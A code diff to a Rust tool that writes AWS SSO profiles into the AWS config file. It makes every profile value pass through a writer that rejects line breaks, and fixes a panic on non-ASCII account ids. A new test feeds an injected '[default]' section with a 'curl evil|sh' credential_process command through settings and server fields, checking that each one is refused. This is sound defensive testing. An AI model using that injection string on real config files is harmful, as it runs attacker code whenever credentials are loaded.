@@ -246,11 +246,10 @@ pub fn plan(
     }
     for p in &mut rendered {
         if by_name[&p.name].len() > 1 {
-            p.name = format!(
-                "{}-{}",
-                p.name,
-                &p.account_id[p.account_id.len().saturating_sub(4)..]
-            );
+            // By characters: an id from the server is not necessarily ASCII.
+            let n = p.account_id.chars().count();
+            let tail: String = p.account_id.chars().skip(n.saturating_sub(4)).collect();
+            p.name = format!("{}-{tail}", p.name);
         }
     }
     // Never a name that exists outside this identity's blocks: suffix it and say so.
@@ -281,7 +280,11 @@ pub fn plan(
         }
     }
     rendered.sort_by(|a, b| a.name.cmp(&b.name));
-    let diff = diff(&own, &rendered);
+    // Every section through the writer now, so a bad value is refused at the preview, not Apply.
+    for p in &rendered {
+        section_body(p)?;
+    }
+    let diff = diff(&own, &rendered)?;
     Ok(SyncPlan {
         session: identity.session.clone(),
         profiles: rendered,
@@ -371,24 +374,37 @@ pub fn twin(p: &PlannedProfile, suffix: &str, command: &str) -> PlannedProfile {
     }
 }
 
-fn section_body(p: &PlannedProfile) -> String {
-    let mut s = match &p.credential_process {
-        Some(cmd) => format!("[profile {}]\ncredential_process = {cmd}\n", p.name),
-        None => format!(
-            "[profile {}]\nsso_session = {}\nsso_account_id = {}\nsso_role_name = {}\n",
-            p.name, p.session, p.account_id, p.role_name
-        ),
+/// A profile's section, through the one writer that refuses values with line breaks (from the
+/// user's settings or from the server alike).
+fn section_body(p: &PlannedProfile) -> Result<String> {
+    let w = aws_config::SectionWriter::new("profile", &p.name);
+    let w = match &p.credential_process {
+        Some(cmd) => w.and_then(|w| w.key("credential_process", cmd)),
+        None => w
+            .and_then(|w| w.key("sso_session", &p.session))
+            .and_then(|w| w.key("sso_account_id", &p.account_id))
+            .and_then(|w| w.key("sso_role_name", &p.role_name)),
     };
-    if let Some(r) = &p.region {
-        s.push_str(&format!("region = {r}\n"));
-    }
-    if let Some(o) = &p.output {
-        s.push_str(&format!("output = {o}\n"));
-    }
-    s
+    let w = match &p.region {
+        Some(r) => w.and_then(|w| w.key("region", r)),
+        None => w,
+    };
+    let w = match &p.output {
+        Some(o) => w.and_then(|w| w.key("output", o)),
+        None => w,
+    };
+    w.map(aws_config::SectionWriter::finish)
+        .map_err(|e| unsafe_value(&p.name, e))
 }
 
-fn diff(old_block: &str, new: &[PlannedProfile]) -> ProfileDiff {
+fn unsafe_value(profile: &str, e: aws_config::UnsafeValue) -> Error {
+    Error::InvalidInput {
+        field: e.key,
+        reason: format!("profile {profile:?}: {}", e.reason),
+    }
+}
+
+fn diff(old_block: &str, new: &[PlannedProfile]) -> Result<ProfileDiff> {
     let old: HashMap<String, Vec<(String, String)>> = aws_config::sections(old_block)
         .into_iter()
         .filter_map(|s| match s.kind {
@@ -402,7 +418,7 @@ fn diff(old_block: &str, new: &[PlannedProfile]) -> ProfileDiff {
         match old.get(&p.name) {
             None => d.added.push(p.name.clone()),
             Some(keys) => {
-                let want = aws_config::sections(&section_body(p)).remove(0).keys;
+                let want = aws_config::sections(&section_body(p)?).remove(0).keys;
                 if *keys == want {
                     d.unchanged += 1
                 } else {
@@ -417,13 +433,21 @@ fn diff(old_block: &str, new: &[PlannedProfile]) -> ProfileDiff {
         .cloned()
         .collect();
     d.removed.sort();
-    d
+    Ok(d)
 }
 
 /// The config text with the plan applied (pure; see [`apply`] for the file).
-pub fn render_config(config_text: &str, plan: &SyncPlan) -> String {
-    let body: Vec<String> = plan.profiles.iter().map(section_body).collect();
-    aws_config::upsert_block(config_text, &block_id(&plan.session), &body.join("\n"))
+pub fn render_config(config_text: &str, plan: &SyncPlan) -> Result<String> {
+    let body = plan
+        .profiles
+        .iter()
+        .map(section_body)
+        .collect::<Result<Vec<String>>>()?;
+    Ok(aws_config::upsert_block(
+        config_text,
+        &block_id(&plan.session),
+        &body.join("\n"),
+    ))
 }
 
 /// Checks a whole config the way botocore reads it ([`aws_config::botocore_problem`]); the error
@@ -550,7 +574,7 @@ pub fn apply(paths: &Paths, plan: &SyncPlan, now: time::OffsetDateTime) -> Resul
     let current = identity::read_config(&paths.aws_config_file)?;
     validate(&paths.aws_config_file, &current)?;
     let fresh = plan_against(paths, plan, &current)?;
-    let updated = render_config(&current, &fresh);
+    let updated = render_config(&current, &fresh)?;
     validate(&paths.aws_config_file, &updated)?;
     let backup = if current.is_empty() || updated == current {
         None
@@ -570,7 +594,7 @@ pub fn apply(paths: &Paths, plan: &SyncPlan, now: time::OffsetDateTime) -> Resul
 fn plan_against(paths: &Paths, plan: &SyncPlan, current: &str) -> Result<SyncPlan> {
     let own = block_text(current, &block_id(&plan.session));
     Ok(SyncPlan {
-        diff: diff(&own, &plan.profiles),
+        diff: diff(&own, &plan.profiles)?,
         config_file: paths.aws_config_file.display().to_string(),
         ..plan.clone()
     })
@@ -699,7 +723,7 @@ mod tests {
         let names: Vec<&str> = p.profiles.iter().map(|p| p.name.as_str()).collect();
         assert_eq!(names, ["prod/Admin", "prod/Admin-process-2"]);
         assert!(p.warnings[0].contains("prod/Admin-process already exists"));
-        let text = render_config(user, &p);
+        let text = render_config(user, &p).unwrap();
         assert!(text.contains(
             "[profile prod/Admin-process-2]\ncredential_process = \"/opt/Lanyard Tools/lanyard\" export-credentials --profile prod/Admin --format process\nregion = us-east-1\n"
         ), "{text}");
@@ -749,6 +773,80 @@ mod tests {
         );
         let p = plan(&with_cli("/usr/bin/lanyard"), &id(), &accounts, &on, "").unwrap();
         assert_eq!(p.profiles[1].name, "prod/Admin.cp");
+    }
+
+    /// Every value a profile is written with — from the settings (CLI flags, the window) and
+    /// from the server (account ids, role names) — with CR alone, LF alone and CRLF: the plan is
+    /// refused naming the key, and nothing can add a `[default]` with a `credential_process`.
+    #[test]
+    fn no_value_with_a_line_break_reaches_the_config() {
+        let paths = Paths::sandboxed(Path::new("/x"));
+        let evil =
+            |le: &str| format!("json{le}[default]{le}credential_process = sh -c 'curl evil|sh'");
+        for le in ["\r", "\n", "\r\n"] {
+            let accounts = [acct("111111111111", "prod", &["Admin"])];
+            let settings = [
+                (
+                    "output",
+                    ProfileSettings {
+                        output: Some(evil(le)),
+                        ..Default::default()
+                    },
+                ),
+                (
+                    "region",
+                    ProfileSettings {
+                        default_region: Some(evil(le)),
+                        ..Default::default()
+                    },
+                ),
+                ("region", {
+                    let mut s = ProfileSettings::default();
+                    s.account_regions.insert("111111111111".into(), evil(le));
+                    s
+                }),
+            ];
+            for (key, s) in settings {
+                match plan(&paths, &id(), &accounts, &s, "") {
+                    Err(Error::InvalidInput { field, reason }) => {
+                        assert_eq!(field, key, "{le:?}");
+                        assert!(reason.contains("line break"), "{reason}");
+                    }
+                    other => panic!("{key} {le:?}: {other:?}"),
+                }
+            }
+            // From the server.
+            for (accounts, key) in [
+                (
+                    [acct(&format!("1{le}[default]"), "prod", &["Admin"])],
+                    "sso_account_id",
+                ),
+                (
+                    [acct(
+                        "111111111111",
+                        "prod",
+                        &[&format!("Admin{le}[default]")],
+                    )],
+                    "sso_role_name",
+                ),
+            ] {
+                match plan(&paths, &id(), &accounts, &ProfileSettings::default(), "") {
+                    Err(Error::InvalidInput { field, .. }) => assert_eq!(field, key, "{le:?}"),
+                    other => panic!("{key} {le:?}: {other:?}"),
+                }
+            }
+        }
+        // An account id that is not ASCII does not panic the naming of colliding profiles.
+        let accounts = [
+            acct("ééééé", "prod", &["Admin"]),
+            acct("ïïïïï", "prod", &["Admin"]),
+        ];
+        let p = plan(&paths, &id(), &accounts, &ProfileSettings::default(), "").unwrap();
+        assert!(
+            p.profiles.iter().any(|p| p.name.ends_with("-éééé")),
+            "{:?}",
+            p.profiles
+        );
     }
 
     #[test]
@@ -962,7 +1060,7 @@ mod property {
                 &original,
             )
             .unwrap();
-            let once = render_config(&original, &first);
+            let once = render_config(&original, &first).unwrap();
             assert!(once.starts_with(&original), "case {case}: prefix");
             let second = plan(
                 &paths,
@@ -972,7 +1070,7 @@ mod property {
                 &once,
             )
             .unwrap();
-            let twice = render_config(&once, &second);
+            let twice = render_config(&once, &second).unwrap();
             assert!(
                 twice.starts_with(&original),
                 "case {case}: prefix after re-sync"
